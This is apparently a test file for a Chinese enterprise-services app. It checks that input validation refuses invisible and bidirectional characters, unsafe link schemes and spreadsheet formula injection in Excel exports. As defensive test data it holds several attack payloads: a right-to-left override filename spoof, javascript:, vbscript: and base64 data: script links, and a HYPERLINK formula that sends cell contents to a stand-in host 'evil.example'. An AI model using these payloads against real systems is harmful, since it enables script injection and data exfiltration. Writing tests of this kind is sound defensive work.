import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { DEMO, dataOf, openTestCloud, type TestCloud } from '../support/test-cloud';

/** Input that tries to smuggle characters, formulas or links is refused and changes nothing. */
describe('input that cannot smuggle', () => {
  let t: TestCloud;
  beforeAll(() => {
    t = openTestCloud();
  });
  afterAll(() => t.close());

  const demand = { category: '融资', title: '申请科技贷款贴息', description: '企业今年研发投入较大，希望了解科技型中小企业贷款贴息的申请条件和流程。', urgency: 'normal' };
  const today = new Date().toISOString().slice(0, 10);
  const policy = { title: '浦东新区科技企业贷款贴息', summary: '对区内科技型中小企业的银行贷款给予贴息支持。', issuer: '区科经委', validFrom: today, validTo: `${today.slice(0, 4)}-12-31`, industries: ['集成电路'], tags: [] };

  describe('text fields refuse control, zero-width and bidi characters', () => {
    it.each([
      ['a right-to-left override in a title', { title: '申请贷款\u202Egnp.exe' }, 'title'],
      ['a zero-width space in a description', { description: '企业今年研发投入较大，\u200B希望了解贷款贴息的申请条件和流程。' }, 'description'],
      ['a bell character in a description', { description: '企业今年研发投入较大，希望了解贷款贴息\u0007的申请条件和流程。' }, 'description'],
      ['invisible tag characters in a title', { title: '申请贷款\u{E0069}\u{E0067}贴息' }, 'title'],
      ['an isolate in an attachment name', { attachments: [{ fileID: 'cloud://local.local/x.png', name: '\u2067报告.pdf' }] }, 'attachments.0.name'],
    ])('%s', async (_name, change, field) => {
      const before = (await t.read('demands')).length;
      const reply = await t.as(DEMO.enterprise).call('demand.submit', { ...demand, ...change });
      expect(reply).toMatchObject({ ok: false, error: { code: 'VALIDATION_FAILED', fields: { [field]: expect.stringContaining('不可见') } } });
      expect(await t.read('demands')).toHaveLength(before);
    });

    it('in every kind of record: contacts, policies, enterprises, tags, proposals', async () => {
      const contact = { enterpriseId: 'ent-001', type: '电话', at: new Date().toISOString(), who: '董事长\u200D', topics: '了解企业近期需求', outcome: '企业知悉' };
      expect(await t.as(DEMO.steward).call('contact.record', contact)).toMatchObject({ ok: false, error: { fields: { who: expect.stringContaining('不可见') } } });
      expect(await t.as(DEMO.district).call('policy.create', { ...policy, tags: ['贴息\u200B'] })).toMatchObject({ ok: false, error: { fields: { 'tags.0': expect.any(String) } } });
      expect(await t.as(DEMO.district).call('enterprise.update', { id: 'ent-001', address: '上海市浦东新区\u202D张江路1号' })).toMatchObject({ ok: false, error: { fields: { address: expect.any(String) } } });
      expect(await t.as(DEMO.enterprise).call('enterprise.setPreferences', { channels: ['电话'], note: '请\u061C提前预约' })).toMatchObject({ ok: false, error: { fields: { note: expect.any(String) } } });
      expect(await t.as(DEMO.unitAdmin).call('proposal.create', { kind: 'remove', enterpriseId: 'ent-002', reason: '企业已整体\u2060迁往外省' })).toMatchObject({ ok: false, error: { fields: { reason: expect.any(String) } } });
    });

    it('still takes ordinary Chinese text with line breaks and emoji', async () => {
      dataOf(await t.as(DEMO.enterprise).call('demand.submit', { ...demand, description: '企业今年研发投入较大。\n希望了解贷款贴息的申请条件和流程 👍' }));
    });
  });

  describe('links', () => {
    it.each([
      ['javascript:', 'javascript:alert(document.cookie)'],
      ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
      ['ftp:', 'ftp://example.com/policy.pdf'],
      ['vbscript:', 'vbscript:msgbox(1)'],
      ['no scheme', 'www.pudong.gov.cn/policy'],
    ])('refuses a %s policy link', async (_name, link) => {
      const reply = await t.as(DEMO.district).call('policy.create', { ...policy, link });
      expect(reply).toMatchObject({ ok: false, error: { code: 'VALIDATION_FAILED', fields: { link: '链接须以 http:// 或 https:// 开头' } } });
    });

    it('takes an http(s) link', async () => {
      const created = dataOf(await t.as(DEMO.district).call('policy.create', { ...policy, link: 'https://www.pudong.gov.cn/policy/1.html' }));
      expect(created.link).toBe('https://www.pudong.gov.cn/policy/1.html');
    });
  });

  describe('Excel exports', () => {
    it('write formula-looking text as text', async () => {
      const product = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
      dataOf(await t.as(DEMO.steward).call('report.create', { category: '新产品和研发重大进展', enterpriseId: 'ent-001', fields: { product, stage: '研发', significance: '+1 填补国内空白' } }));
      for (const other of ['@SUM(1+1)', '-2+3', '\t=1+1']) {
        dataOf(await t.as(DEMO.steward).call('report.create', { category: '新产品和研发重大进展', enterpriseId: 'ent-001', fields: { product: `${other} 新品`, stage: '试产', significance: '填补国内空白' } }));
      }
      const exported = dataOf(await t.as(DEMO.district).call('report.export', {}));
      const { fileContent } = await t.cloud.sdk.downloadFile({ fileID: exported.fileID });
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(fileContent as never);
      const cells: unknown[] = [];
      book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
      expect(cells).toEqual(expect.arrayContaining([`'${product}：研发`, `'@SUM(1+1) 新品：试产`, `'-2+3 新品：试产`]));
      expect(cells.filter((v) => typeof v === 'string' && /^[=+\-@\t\r＝＋－＠]/.test(v))).toEqual([]);
      expect(cells.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    });

    it('every workbook writer passes its rows through safeRow', () => {
      const files = (dir: string): string[] =>
        readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
      const writers = files(path.resolve(__dirname, '../../server')).filter((f) => /\.xlsx\.write|\.csv\.write/.test(readFileSync(f, 'utf8')));
      expect(writers.length).toBeGreaterThan(0);
      for (const file of writers) {
        const source = readFileSync(file, 'utf8');
        expect({ file, unsafe: source.match(/\.addRows?\((?!safeRow\()[^)]*/g) ?? [] }).toEqual({ file, unsafe: [] });
        // Cells written one by one would bypass safeRow.
        expect({ file, cells: /\.getCell\(|\.value\s*=/.test(source) }).toEqual({ file, cells: false });
      }
    });
  });
});
